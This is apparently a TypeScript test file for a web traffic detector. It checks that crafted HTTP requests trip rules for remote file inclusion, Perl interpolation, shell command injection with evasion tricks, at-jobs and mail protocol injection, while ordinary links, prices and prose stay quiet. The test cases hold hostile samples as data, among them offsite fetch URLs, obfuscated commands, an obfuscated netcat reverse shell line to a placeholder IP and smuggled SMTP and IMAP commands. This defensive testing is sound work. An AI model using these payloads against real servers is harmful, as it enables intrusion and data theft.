// Paranoia level 2 and 3 detectors: URLs to other sites in parameters, Perl interpolation,
// command lines in headers, broken-up command names, commands from variables, mail protocol
// commands; and the links, quotes, dollars and line breaks of ordinary traffic that stay quiet.
import { describe, expect, it } from "vitest";
import { normalizeEvent } from "@/lib/pipeline/normalize.ts";
import { detectPayloads } from "./index.ts";
import { SHELL_PARANOID } from "./shell-paranoid.ts";
import { SHELL_GRAMMAR } from "../grammar/shell/detectors.ts";
import { WIDE_PARANOID } from "./wide-paranoid.ts";

type Event = ReturnType<typeof normalizeEvent>;
const query = (value: string, name = "q", extra: Record<string, unknown> = {}) =>
  normalizeEvent({
    url: { original: `/page?${name}=${encodeURIComponent(value)}` },
    http: { request: { method: "GET", ...extra } },
  });
const form = (content: string) =>
  normalizeEvent({ url: { original: "/submit" }, http: { request: { method: "POST", body: { content } } } });
const json = (value: unknown) =>
  normalizeEvent({
    url: { original: "/api/items" },
    http: { request: { method: "POST", body: { content: JSON.stringify(value) } } },
  });
const agent = (ua: string) =>
  normalizeEvent({ url: { original: "/" }, http: { request: { method: "GET" } }, user_agent: { original: ua } });
const referrer = (value: string) =>
  normalizeEvent({ url: { original: "/" }, http: { request: { method: "GET", referrer: value } } });
const cookie = (value: string) =>
  normalizeEvent({ url: { original: "/" }, http: { request: { method: "GET", cookie: value } } });
const onHost = (host: string, value: string, name = "q") => query(value, name, { headers: { host } });
const GRAMMAR_IDS = new Set(SHELL_GRAMMAR.map((d) => d.id));
const OURS = new Set([...WIDE_PARANOID, ...SHELL_PARANOID, ...SHELL_GRAMMAR].map((d) => d.id));
const ids = (e: Event, paranoia: 1 | 2 | 3 = 2) =>
  detectPayloads(e, { paranoia })
    .map((d) => d.id)
    .filter((id) => OURS.has(id));

describe("paranoia 2 and 3 wide detectors", () => {
  it.each([
    ["sn-rfi-fetch-scheme", query("ftp://files.badhost.example/kit.txt", "tpl")],
    ["sn-rfi-fetch-scheme", query("file://fileserver/share/boot.ini", "doc")],
    ["sn-rfi-fetch-scheme", query("jar:https://cdn.badhost.example/lib.jar!/x.class", "q")],
    ["sn-rfi-fetch-scheme", query("url:file:///var/www/.env", "q")],
    ["sn-rfi-fetch-scheme", json({ feed: "gopher://mirror.badhost.example:70/1" })],
    ["sn-rfi-disguised-host", query("http://shop.example%2F@cdn.badhost.example/a.txt", "q")],
    ["sn-rfi-disguised-host", onHost("shop.example", "https://shop.example%2F:x@badhost.example/", "lang")],
    ["sn-rfi-offsite-url", query("https://badhost.example/payload.txt", "q")],
    ["sn-rfi-offsite-url", onHost("shop.example", "https://shop.example.badhost.example/a", "lang")],
    ["sn-rfi-offsite-url", onHost("shop.example", "http://myshop.example/x", "theme")],
    ["sn-rfi-offsite-url", form("skin=https%3A%2F%2Fbadhost.example%2Fskin.inc&id=4")],
    ["sn-perl-interpolation", query("@{[ qx{id} ]}")],
    ["sn-perl-interpolation", query("name @ { [ `uname` ] } here")],
    ["sn-perl-interpolation", cookie("prefs=${\\ system('id') }")],
    ["sn-cmdi-header-command", agent("systemctl stop nginx")],
    ["sn-cmdi-header-command", agent("'crontab' -l")],
    ["sn-cmdi-header-command", agent("run=ansible-vault view secrets.yml")],
    ["sn-cmdi-header-command", agent("grep -r password /srv")],
    ["sn-cmdi-header-command", agent("nohup busybox telnetd")],
    ["sn-cmdi-header-command", referrer("https://shop.example/find?term=tail -n 5 /var/log/syslog")],
    ["sn-cmdi-shell-evasion", query("x;ch$@mod 777 run.sh")],
    ["sn-cmdi-leading-command", query("u'n'ame -a")],
    ["sn-cmdi-shell-evasion", query("1|who\\ami")],
    ["sn-cmdi-leading-command", query("sl``eep 9")],
    ["sn-cmdi-leading-command", query("ps$() aux")],
    ["sn-cmdi-shell-evasion", query("o=g;w$o\\et badhost.example")],
    ["sn-cmdi-leading-command", query("{,$'ifconfig',}")],
    ["sn-cmdi-leading-command", form("cmd=%22%22n%22%22c%22%22 -e sh 198.51.100.4 9")],
    ["sn-cmdi-variable-command", query("p=/tmp&&t=touch&&$t $p/flag")],
    ["sn-cmdi-variable-command", agent("z=uname;$z -a")],
    ["sn-cmdi-shell-evasion", query("img;/usr/b?n/wh?ami x")],
    ["sn-cmdi-at-job", query("x;at now + 1 minute <<< 'reboot'")],
    ["sn-cmdi-at-job", query("echo id | at midnight")],
    ["sn-mail-command-injection", query("hello\r\nRCPT TO:<list@badhost.example>")],
    ["sn-mail-command-injection", form("subject=hi%0d%0aEHLO relay.badhost.example")],
    ["sn-mail-command-injection", form("note=x%0d%0aB7 FETCH 1:4 (FLAGS)")],
    ["sn-mail-command-injection", form("note=x%0d%0ak SELECT INBOX")],
    ["sn-mail-command-injection", query("x\nDELE 12")],
  ])("%s fires on %# at paranoia 2", (id, event) => {
    expect(ids(event)).toContain(id);
  });

  it.each([
    ["sn-mail-command-bare", query("thanks\r\nQUIT")],
    ["sn-cmdi-bare-command", query("nohup id")],
    ["sn-cmdi-bare-command", query("ti''me ps")],
    ["sn-cmdi-bare-command", query("a|ls -l")],
    ["sn-cmdi-bare-command", query("!!")],
  ])("%s fires on %# at paranoia 3", (id, event) => {
    expect(ids(event, 3)).toContain(id);
  });

  it.each([
    ["a website field", form("name=Ann&website=https%3A%2F%2Fann.blog.example%2F")],
    ["a redirect back", query("https://shop.example/cart", "return_to")],
    ["an avatar URL in JSON", json({ user: { avatar_url: "https://img.cdn.example/a.png" } })],
    ["a JSON Schema id", json({ $schema: "https://json-schema.org/draft/2020-12/schema", name: "x" })],
    ["an XML namespace", form('<?xml version="1.0"?><r xmlns="http://www.w3.org/2005/Atom"><t>x</t></r>')],
    ["a link to the site itself", onHost("www.shop.example", "https://shop.example/help", "q")],
    ["a link to a sibling subdomain", onHost("shop.example.co.uk", "https://static.example.co.uk/a.css", "css")],
    [
      "a link to the site in url.domain",
      normalizeEvent({
        url: { original: "/p?q=https%3A%2F%2Fwww.shop.example%2Fa", domain: "shop.example" },
        http: { request: { method: "GET" } },
      }),
    ],
    ["basic auth to the site itself", onHost("shop.example", "http://ann:pw@shop.example/", "q")],
    ["a link in a sentence", query("see https://docs.example.org/faq for more")],
    ["a word before a colon", query("file: report.pdf")],
    ["an email address with brackets", query("write to @{Ann} [team]")],
    ["LaTeX in a post", form("body=%24%7B%5Calpha%7D%24+is+fine")],
    ["quotes in prose", query("That's two \"O\"s in goose, O'Keefe's")],
    ["a CSV cell", form('cell=He said ""time"" heals')],
    ["a quoted tool name", query("'curl' is a tool")],
    ["prices", query("costs $5 or US$10; cat food included")],
    ["a shell variable in docs", query("set PATH=$HOME/bin")],
    ["a Windows path", query("C:\\Users\\id\\Desktop")],
    [
      "browser agent",
      agent("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36"),
    ],
    ["a client agent", agent("Wget/1.21.3 (linux-gnu)")],
    ["a bare client name", agent("curl")],
    ["an Ansible agent", agent("ansible-httpget")],
    ["a referrer with a search", referrer("https://search.example/?q=best+cat+food")],
    [
      "a client hint header",
      normalizeEvent({
        url: { original: "/" },
        http: { request: { method: "GET", headers: { "sec-ch-ua": '"Chromium";v="131", "Not_A Brand";v="24"' } } },
      }),
    ],
    ["a multi-line message", form("message=Hi%0D%0AData+is+attached%0D%0AList+3+items+please%0D%0AThanks")],
    ["a meeting note", query("lunch; at noon we meet")],
    ["an API glob", query("GET /api/*/items")],
    ["a dollar in JS", form("code=const+%24el+%3D+%24('%23id')%3B")],
  ])("stays quiet on %s at paranoia 2", (_label, event) => {
    expect(ids(event)).toEqual([]);
  });

  it.each([
    ["prose with time", query("time flies")],
    ["prose with a pipe", query("yes|no answers")],
    ["ampersands", query("R&D, AT&T and fish & chips")],
    ["a CSS flag", query("!important")],
  ])("stays quiet on %s at paranoia 3", (_label, event) => {
    expect(ids(event, 3)).toEqual([]);
  });

  it("runs nothing at paranoia 1", () => {
    expect([...WIDE_PARANOID, ...SHELL_PARANOID].every((d) => d.paranoia >= 2)).toBe(true);
    for (const event of [
      query("https://badhost.example/payload.txt"),
      query("@{[ qx{id} ]}"),
      query("x;ch$@mod 777 run.sh"),
      agent("systemctl stop nginx"),
      query("hello\r\nRCPT TO:<list@badhost.example>"),
      query("nohup id"),
    ]) {
      // The shell grammar analysis reads disguised names at level 1 on purpose.
      expect(ids(event, 1).filter((id) => !GRAMMAR_IDS.has(id))).toEqual([]);
      expect(ids(event, 3).length).toBeGreaterThan(0);
    }
  });
});
